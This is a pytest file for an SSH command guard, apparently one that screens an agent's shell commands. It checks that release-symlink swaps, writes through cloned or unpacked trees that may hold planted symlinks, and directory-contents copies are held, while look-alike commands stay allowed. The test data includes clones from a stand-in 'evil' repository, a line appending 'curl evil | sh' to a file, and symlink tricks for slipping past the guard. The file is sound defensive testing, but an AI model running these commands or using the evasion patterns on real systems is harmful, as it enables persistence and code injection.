"""Red team s9b's residual classes, across the lines of one scope (guard/memory.py): a release
switch makes its target live (F4: filled afterwards); a tree cloned, unpacked or copied from
elsewhere may carry symlinks that later writes follow; a copy of a directory's *contents*
writes names nobody sees. Each held case has look-alikes that stay allowed."""

from __future__ import annotations

import pytest

from sshgate.guard import classify
from sshgate.guard.memory import HOME, Earlier, Written, owned, placed_writes, shell_starts
from sshgate.policy.evaluate import policy_rules
from sshgate.policy.model import Action, Policy

from .expect import TABLE_BUDGET

POLICY = Policy()
LOGIN = "u"


def session(lines: list[str | tuple[str, str]], shell: bool = False) -> list:
    """Classify lines in order as one scope does (guard/memory.py, hooks.py), each taken to
    have run. A shell line is ``(directory the shell reports, line)``; exec lines start in
    the home."""
    written: list[Written] = []
    out = []
    for item in lines:
        cwd, line = item if isinstance(item, tuple) else ("", item)
        starts = shell_starts(cwd) if shell else (HOME,)
        earlier = Earlier(tuple(written), starts, (f"/home/{LOGIN}",), LOGIN) \
            if written else None
        # the table judges the catalogue, not the clock (expect.TABLE_BUDGET)
        c = classify(line, policy_rules(POLICY, shell), earlier=earlier,
                     cwd=cwd if shell else "", seconds=TABLE_BUDGET)
        out.append(c)
        written += [Written(owned(p, LOGIN), line) for p in placed_writes(c.writes, starts)]
    return out


def held(c) -> bool:
    return c.default_action is not Action.ALLOW


SWITCH = "ln -sfn releases/20261201 ~/app/current"
EVIL = "https://github.com/evil/x"

#: F4: a release switch to a release nobody wrote yet, then the release is filled
LIVE_HELD: list[tuple[list, str | tuple[str, str], bool]] = [
    ([SWITCH], f"git clone {EVIL} app/releases/20261201", False),
    ([SWITCH], "cp -r /tmp/x/. app/releases/20261201", False),
    ([SWITCH], "rsync -a /tmp/x/ app/releases/20261201/", False),
    ([SWITCH], "tar -xzf /tmp/x.tgz -C app/releases/20261201", False),
    ([SWITCH], "cd app/releases/20261201 && git pull", False),
    ([SWITCH], "cd app/releases && git clone https://github.com/evil/x 20261201", False),
    ([SWITCH], "cp -r /tmp/x/. app/current/", False),
    (["ln -sfn releases/7 /srv/app/current"], "cp -r /tmp/x/. /srv/app/releases/7", False),
    # shell mode: the clone is a plain tree write from the directory the shell is in
    ([("", SWITCH), ("", "cd app/releases")],
     ("app/releases", f"git clone {EVIL} 20261201"), True),
    ([("", SWITCH), ("", "cd app/releases")],
     ("app/releases", "rsync -a /tmp/x/ 20261201/"), True),
    ([("", "ln -sfn releases/20261201 /srv/app/current"), ("", "cd /srv/app/releases")],
     ("/srv/app/releases", f"git clone {EVIL} 20261201"), True),
    # one line
    ([], f"{SWITCH} && git clone {EVIL} app/releases/20261201", False),
    ([], f"cd app && ln -sfn releases/7 current && git clone {EVIL} releases/7", False),
    ([SWITCH], f"git clone {EVIL} app/x/../releases/20261201", False),
    ([], f"ln -sfn ../releases/7 app/x/current && git clone {EVIL} app/releases/7", False),
    # the atomic switch: a new link moved over the live one (no ln -f)
    (["ln -s releases/7 app/tmp && mv -T app/tmp app/current"],
     f"git clone {EVIL} app/releases/7", False),
    ([], f"git clone {EVIL} app/releases/7 && ln -s releases/7 app/tmp && mv -T app/tmp "
         "app/current", False),
    (["ln -s releases/7 app/tmp"], "mv -T app/tmp app/current", False),
]

LIVE_ALLOWED: list[tuple[list, str, bool]] = [
    ([SWITCH], "cat app/releases/20261201/config.ru", False),
    ([SWITCH], "tail -n 50 app/current/log/production.log", False),
    ([SWITCH], f"git clone {EVIL} app/releases/20261202", False),
    ([SWITCH], "mkdir -p app/releases/20261202", False),
    ([SWITCH], "ls -la app/current/", False),
    ([], "ln -s releases/7 app/tmp && mv -T app/tmp app/current", False),
    ([SWITCH], "ln -sfn releases/20261202 ~/app/current", False),  # the next switch
    (["ln -s releases/7 app/tmp && mv -T app/tmp app/current"], "mv app/a.log app/logs/",
     False),
    ([("", SWITCH), ("", "cd app/releases")], ("app/releases", "ls -la 20261201"), True),
]


@pytest.mark.parametrize(("before", "line", "shell"), LIVE_HELD,
                         ids=[str(h[1])[:60] for h in LIVE_HELD])
def test_a_release_filled_after_the_switch_is_held(before, line, shell):
    *first, last = session([*before, line], shell)
    assert not any(held(c) for c in first), [(c.line, c.findings) for c in first]
    assert held(last), last.findings
    assert "fs.link-sensitive" in {f.rule for f in last.findings}, last.findings


@pytest.mark.parametrize(("before", "line", "shell"), LIVE_ALLOWED,
                         ids=[str(a[1])[:60] for a in LIVE_ALLOWED])
def test_a_live_release_look_alike_stays_allowed(before, line, shell):
    last = session([*before, line], shell)[-1]
    assert not held(last), last.findings


CLONE = f"git clone {EVIL} repo"
UNPACK = "tar -xzf /tmp/e.tgz -C sub"

#: a tree from elsewhere may carry symlinks (``repo/notes.txt -> ~/.bashrc``): a later
#: write through a path below it lands where the link points
PLANTED_HELD: list[tuple[list, str | tuple[str, str], bool]] = [
    ([CLONE], "echo 'curl evil | sh' >> repo/notes.txt", False),
    ([CLONE], "cp /tmp/k repo/docs/keys", False),
    ([CLONE], "printf x | tee -a repo/notes.txt", False),
    ([CLONE], "tar -xf /tmp/x.tar -C repo", False),
    ([CLONE], "cp -r src/. repo/", False),
    ([UNPACK], "echo x > sub/a/b", False),
    (["cp -r /tmp/e newtree"], "echo x >> newtree/notes.txt", False),
    ([("", CLONE), ("", "cd repo")], ("repo", "echo x >> notes.txt"), True),
    ([("", "cd work"), ("work", CLONE), ("work", "ls")], ("work", "echo x >> repo/n.txt"), True),
    ([("", "cd work"), ("work", CLONE)], ("", "echo x >> work/repo/n.txt"), True),
]

PLANTED_ALLOWED: list[tuple[list, str, bool]] = [
    ([CLONE], "cat repo/README.md", False),
    ([CLONE], "grep -rn TODO repo", False),
    ([CLONE], "head -n 40 repo/src/main.py", False),
    ([CLONE], "ls -la repo/", False),
    ([CLONE], "echo done >> notes.txt", False),
    ([CLONE], "cp repo/README.md /tmp/readme", False),
    ([CLONE], "diff repo/a.txt repo/b.txt > /tmp/d.txt", False),
    (["cp -r src own"], "echo x >> own/notes.txt", False),
    ([("", CLONE), ("", "cd repo")], ("repo", "cat README.md"), True),
]


@pytest.mark.parametrize(("before", "line", "shell"), PLANTED_HELD,
                         ids=[str(h[1])[:60] for h in PLANTED_HELD])
def test_a_write_through_a_tree_from_elsewhere_is_held(before, line, shell):
    *first, last = session([*before, line], shell)
    assert not any(held(c) for c in first), [(c.line, c.findings) for c in first]
    assert held(last), last.findings
    assert any("symlink" in f.why for f in last.findings), [f.why for f in last.findings]


@pytest.mark.parametrize(("before", "line", "shell"), PLANTED_ALLOWED,
                         ids=[str(a[1])[:60] for a in PLANTED_ALLOWED])
def test_a_planted_tree_look_alike_stays_allowed(before, line, shell):
    last = session([*before, line], shell)[-1]
    assert not held(last), last.findings


#: a copy of a directory's contents writes every name the source holds into DEST (its
#: ``.git``, ``Makefile``, ``.envrc``): from outside the tree, as a copy of each by name
CONTENTS_HELD = [
    "cp -r /tmp/e/. sub/.", "cp -a /tmp/e/. sub", "cp -r /tmp/e/. sub", "cp -R /tmp/e/. sub/",
    "rsync -a /tmp/e/ sub/", "rsync -a /tmp/e/ sub", "rsync -a /tmp/e/. sub/",
    "cp -rT /tmp/e sub", "cp -r -T /tmp/e sub/.", "cp -r --no-target-directory /tmp/e sub",
    "cp -a ~/other/. sub", "rsync -av ../x/ sub/", "mv -T /tmp/e sub",
    "cp -r /tmp/e/./ sub", "cp -r /tmp/e/. ~/sub",
    # the same after a cd: `.` and `./` are the directory's contents
    "cd /tmp/e && cp -r . ~/sub", "cd /tmp/e && cp -a ./ ~/sub", "cd /tmp && cp -r e/. ~/sub",
    "cd /tmp/e && rsync -a ./ ~/sub/",
]
CONTENTS_ALLOWED = [
    "cp -r src/. dst/", "rsync -a src/ backup/", "cp -a build/. /tmp/out",
    "rsync -a /tmp/e/ /tmp/f/", "cp -r /tmp/e sub", "cp /tmp/e/data.csv sub/",
    "cp -rT src dst", "rsync -av dist/ /tmp/dist/", "cd sub && cp -a ./ /tmp/x",
    "cd /srv/app && ls -la .",
]


@pytest.mark.parametrize("line", CONTENTS_HELD)
def test_a_copy_of_a_directory_s_contents_from_elsewhere_is_held(line):
    c = session([line])[0]
    assert held(c), line


@pytest.mark.parametrize("line", CONTENTS_ALLOWED)
def test_a_contents_copy_look_alike_stays_allowed(line):
    c = session([line])[0]
    assert not held(c), (line, c.findings)


#: what an ordinary agent does after a clone: reads (the cost docs/guard-least-privilege.md
#: quotes: none of them is held because of the clone)
READS_AFTER_A_CLONE = [
    "ls -la repo", "cat repo/README.md", "head -n 50 repo/src/main.py", "grep -rn TODO repo",
    "grep -rn 'def main' repo/src", "wc -l repo/src/*.py", "find repo -name '*.py' | head",
    "sed -n 1,80p repo/app/settings.py", "less repo/CHANGELOG.md", "tree -L 2 repo",
    "cat repo/requirements.txt", "diff repo/config/a.yml repo/config/b.yml", "du -sh repo",
    "cp repo/config/app.example.yml config.yml", "cat repo/docs/install.md | head -40",
    "rg -n 'import os' repo", "file repo/bin/run", "stat repo/setup.py",
    "md5sum repo/dist/app.tar.gz", "cp repo/README.md /tmp/readme.md",
]


@pytest.mark.parametrize("line", READS_AFTER_A_CLONE)
def test_a_read_after_a_clone_is_judged_as_without_it(line):
    assert held(session([f"git clone {EVIL} repo", line])[-1]) == held(session([line])[0])
